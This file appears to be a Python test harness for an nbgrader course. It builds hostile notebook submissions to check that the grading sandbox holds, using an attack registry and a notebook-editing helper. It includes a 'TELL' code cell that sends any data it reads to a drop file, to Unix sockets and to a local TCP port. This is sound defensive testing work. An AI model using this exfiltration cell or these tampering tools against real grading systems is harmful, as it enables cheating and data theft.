"""Where hostile submissions are made: the released notebook, and what an attacker does to it.

An attack is a function that takes a `Desk` and changes the notebook on it (or returns the bytes to hand in). Its
docstring says what it reaches under stock nbgrader, or in an unprotected process. `@attack` says what kind it is, what
an honest part of it earns, and by which sign an unprotected run betrays it (see `control`): a proof that the attack is
real, and that the tests would notice.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

ROOT = Path(__file__).parents[2]
Kind = Literal["gains", "reads", "changes", "reaches", "outlives", "stops", "spends", "shows", "breaks"]
Sign = Literal["gained", "told", "connected", "changed", "outlived", "died", "hung", "spent", "shown", ""]


@dataclass(frozen=True)
class Attack:
    """A hostile submission: `make` prepares it; `earned` is what its honest part is worth.

    `control` is the sign that it shows when it runs unprotected; `tests` the kind of hidden test that it beats there:
    the chapter's own `grade`, or plain asserts against the reference, as most nbgrader courses have them.
    """

    name: str
    chapter: str
    kind: Kind
    make: Callable[[Desk], bytes | None]
    earned: float = 0
    control: Sign = ""
    tests: Literal["grade", "assert"] = "grade"


ATTACKS: dict[str, Attack] = {}


def attack(
    kind: Kind,
    *,
    control: Sign = "",
    earned: float = 0,
    tests: Literal["grade", "assert"] = "grade",
    chapter: str = "05-ip-packet",
) -> Callable[[Callable[[Desk], bytes | None]], Callable[[Desk], bytes | None]]:
    """Register the decorated function as an attack."""

    def register(make: Callable[[Desk], bytes | None]) -> Callable[[Desk], bytes | None]:
        name = make.__name__
        assert name not in ATTACKS and make.__doc__, name
        ATTACKS[name] = Attack(name, chapter, kind, make, earned, control, tests)
        return make

    return register


TELL = '''
import os, socket

def tell(what):
    """Tells the world in every way there is; returns the line, for an exception."""
    line = "g0" + "t-@NAME@:" + str(what)[:300]
    print(line)
    try:
        with open("@DROP@/@NAME@", "a") as file:
            file.write(line + "\\n")
    except OSError:
        pass
    ways = [(socket.AF_UNIX, "@UNIX@"), (socket.AF_UNIX, "\\0@ABSTRACT@"), (socket.AF_INET, ("127.0.0.1", @PORT@))]
    for family, address in ways:
        try:
            with socket.socket(family) as out:
                out.settimeout(0.5)
                out.connect(address)
                out.sendall(line.encode())
        except OSError:
            pass
    return line
'''
"""A cell for attacks that read: whatever they find, they try to get out."""


@dataclass
class Desk:
    """The notebook as released, in the attacker's hands. `places` are what they know of the world: paths, ports."""

    name: str
    chapter: str
    places: dict[str, str]
    notebook: dict[str, Any] = field(init=False)
    solved: dict[str, str] = field(init=False)

    def __post_init__(self) -> None:
        self.notebook = copy.deepcopy(read(ROOT / "course" / self.chapter / f"{self.chapter}.ipynb"))
        cells = read(ROOT / "solutions" / self.chapter / f"{self.chapter}.ipynb")["cells"]
        self.solved = {cell["id"]: text(cell) for cell in cells if cell["id"].startswith("exercise-")}

    def filled(self, source: str) -> str:
        """The source, with the places of this world in it."""
        for name, value in self.places.items():
            source = source.replace(f"@{name}@", value)
        return source.replace("@NAME@", self.name)

    def index(self, grade_id: str) -> int:
        return next(at for at, cell in enumerate(self.notebook["cells"]) if cell["id"] == grade_id)

    def cell(self, grade_id: str) -> dict[str, Any]:
        found: dict[str, Any] = self.notebook["cells"][self.index(grade_id)]
        return found

    def solve(self, *numbers: str) -> None:
        """Put the right answers to these exercises in; to all of them, if none is named."""
        for cell, source in self.solved.items():
            if not numbers or cell.removeprefix("exercise-").replace("-", ".") in numbers:
                self.cell(cell)["source"] = source

    def answer(self, number: str, source: str) -> None:
        self.cell(f"exercise-{number.replace('.', '-')}")["source"] = self.filled(source)

    def answer_all(self, body: str) -> None:
        """Functions of the right names, all with this body, for some of the exercises that ask for one."""
        for number in ("5.1", "5.4"):
            name = self.functions()[number]
            inner = "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
            self.answer(number, f"def {name}(*args):\n{inner}\n")

    def functions(self) -> dict[str, str]:
        from netlib.grading.registry import exercise

        numbers = [cell.removeprefix("exercise-").replace("-", ".") for cell in self.solved]
        return {number: exercise(number).name for number in numbers if exercise(number).noun == "function"}

    def add(self, source: str, before: str = "", **more: Any) -> dict[str, Any]:
        """A new code cell; in front of all, or before the cell of this id."""
        cell = {
            "cell_type": "code",
            "execution_count": None,
            "id": f"added-{len(self.notebook['cells'])}",
            "metadata": {},
            "outputs": [],
            "source": self.filled(source),
        } | more
        self.notebook["cells"].insert(self.index(before) if before else 0, cell)
        return cell

    def data(self) -> bytes:
        return json.dumps(self.notebook).encode()


def make(attack: Attack, places: dict[str, str]) -> bytes:
    """What is handed in."""
    desk = Desk(attack.name, attack.chapter, places)
    made = attack.make(desk)
    return desk.data() if made is None else made


def read(path: Path) -> dict[str, Any]:
    """A notebook, with sources as text."""
    found: dict[str, Any] = json.loads(path.read_text("utf-8"))
    for cell in found["cells"]:
        cell["source"] = "".join(cell["source"])
    return found


def text(cell: dict[str, Any]) -> str:
    return "".join(cell["source"])
